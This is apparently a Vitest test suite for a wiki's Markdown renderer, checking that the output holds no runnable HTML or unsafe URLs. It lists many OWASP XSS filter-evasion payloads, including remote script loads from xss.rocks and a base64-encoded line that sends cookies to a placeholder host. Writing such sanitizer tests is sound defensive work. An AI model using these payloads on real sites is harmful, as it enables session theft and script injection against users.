import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../src/wiki/render.ts';

// Vectors from the OWASP XSS Filter Evasion Cheat Sheet
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), as raw
// HTML in a page, and the same payloads where Markdown itself makes URLs: inline links and
// images, autolinks, reference definitions. Whatever a member writes, the HTML may only hold
// the tags and attributes Markdown produces, and only safe URLs.

const JS = "javascript:alert('XSS')";
const OWASP_HTML = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->",
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<img onload="eval(atob(\'ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly9saXN0ZXJuSVAvIitkb2N1bWVudC5jb29raWU=\'))">',
  '<A HREF="h \ntt  p://6\t6.000146.0x7.147/">XSS</A>',
  '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>',
];

/** The same payloads in Markdown's own URL places. */
const URL_PAYLOADS = [
  JS,
  'JaVaScRiPt:alert(1)',
  'jav&#x09;ascript:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  'javascript&colon;alert(1)',
  ' javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'livescript:[code]',
];
const MARKDOWN = URL_PAYLOADS.flatMap((url) => [
  `[click](${url})`,
  `[click](<${url}>)`,
  `![img](${url})`,
  `[click][ref]\n\n[ref]: ${url}`,
  `![img][ref]\n\n[ref]: <${url}> "title"`,
  `<${url}>`,
  `[[${url}]]`,
]);
const OTHER = [
  '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
  "[x](https://example.org '\"><script>alert(1)</script>')",
  '![x"onerror="alert(1)](https://example.org/a.png)',
  '[[a|"><script>alert(1)</script>]]',
  '[[a|x" onmouseover="alert(1)]]',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '| a |\n| --- |\n| <script>alert(1)</script> |',
  '- [ ] <img src=x onerror=alert(1)>',
  'www.example.org/<script>alert(1)</script>',
  'Footnote[^1]\n\n[^1]: <iframe src="javascript:alert(1)"></iframe>',
];

const VECTORS = [...OWASP_HTML, ...MARKDOWN, ...OTHER];

/** What micromark with GFM writes, and nothing else. */
const TAGS = new Set(
  'a p em strong code pre h1 h2 h3 h4 h5 h6 ul ol li blockquote hr br img table thead tbody tr th td del input section sup'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'href src alt title class id type checked disabled align start data-footnotes data-footnote-ref data-footnote-backref aria-describedby aria-label dir'.split(
    ' ',
  ),
);

/**
 * The problems of an HTML fragment. micromark escapes every `<` and `"` that is not markup, so
 * every `<` followed by a letter or `/` opens a tag, and attribute values are double-quoted.
 */
function problems(html: string): string[] {
  const found: string[] = [];
  for (const [tag] of html.matchAll(/<\/?[a-zA-Z][^>]*>/g)) {
    const name = /^<\/?([a-zA-Z0-9]+)/.exec(tag)![1]!.toLowerCase();
    if (!TAGS.has(name)) found.push(`element ${name}`);
    const attributes = tag.replace(/^<\/?[a-zA-Z0-9]+/, '').replace(/\/?>$/, '');
    const rest = attributes.replace(
      /\s([a-zA-Z-]+)(="[^"<>]*")?/g,
      (_, attr: string, value?: string) => {
        const lower = attr.toLowerCase();
        if (lower.startsWith('on') || !ATTRIBUTES.has(lower)) found.push(`attribute ${attr}`);
        if ((lower === 'href' || lower === 'src') && value) {
          // Browsers skip control characters and spaces in a scheme (the Embedded Tab vectors).
          const url = [...decode(value.slice(2, -1))]
            .filter((c) => c.charCodeAt(0) > 0x20)
            .join('')
            .toLowerCase();
          if (/^(javascript|vbscript|data|livescript):/.test(url)) found.push(`${attr}=${url}`);
          if (!/^(https?:|mailto:|#|\/|[^:/?#]*([/?#]|$))/.test(url)) found.push(`${attr}=${url}`);
        }
        return '';
      },
    );
    if (rest.trim() !== '') found.push(`unparsed ${rest}`);
  }
  for (const word of ['<script', '<iframe', '<object', '<embed', '<svg', '<style']) {
    if (html.toLowerCase().includes(word)) found.push(word);
  }
  return found;
}

function decode(text: string): string {
  return text
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#([0-9]+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(
      /&(amp|quot|lt|gt|colon|tab|newline);/gi,
      (_, name: string) =>
        ({ amp: '&', quot: '"', lt: '<', gt: '>', colon: ':', tab: '\t', newline: '\n' })[
          name.toLowerCase() as 'amp'
        ],
    );
}

describe('rendering a page', () => {
  it('has more than 30 published vectors to check', () => {
    expect(OWASP_HTML.length).toBeGreaterThan(30);
  });

  it.each(VECTORS)('leaves nothing that runs: %s', (vector) => {
    for (const markdown of [vector, `# Title\n\n${vector}\n\ntext`, `> ${vector}`, `- ${vector}`]) {
      const { html } = renderMarkdown(markdown);
      expect(problems(html), html).toEqual([]);
    }
  });

  it('keeps what is meant: links, images, tables, task lists', () => {
    const { html, title, links } = renderMarkdown(
      [
        '# Setup *guide*',
        '',
        '[site](https://coop.example) [mail](mailto:ada@example.org) [page](/wiki/howto/x) [[services/mail|Mail]]',
        '',
        '![diagram](/api/wiki/pages/a/attachments/d.png)',
        '',
        '| a | b |',
        '| - | - |',
        '| 1 | 2 |',
        '',
        '- [x] done',
      ].join('\n'),
    );
    expect(title).toBe('Setup guide');
    expect(links).toEqual(['howto/x', 'services/mail']);
    expect(html).toContain('<a href="https://coop.example">site</a>');
    expect(html).toContain('<a href="mailto:ada@example.org">mail</a>');
    expect(html).toContain('<a href="/wiki/services/mail" class="wiki-link">Mail</a>');
    expect(html).toContain('<img src="/api/wiki/pages/a/attachments/d.png" alt="diagram" />');
    expect(html).toContain('<td>1</td>');
    expect(html).toContain('<input type="checkbox" disabled="" checked="" />');
    expect(problems(html)).toEqual([]);
  });

  it('catches what it is meant to catch (the checker itself)', () => {
    expect(problems('<a href="javascript:alert(1)">x</a>')).not.toEqual([]);
    expect(problems('<img src="x" onerror="alert(1)" />')).not.toEqual([]);
    expect(problems('<svg></svg>')).not.toEqual([]);
    expect(problems('<a href="jav&#x09;ascript:alert(1)">x</a>')).not.toEqual([]);
  });
});
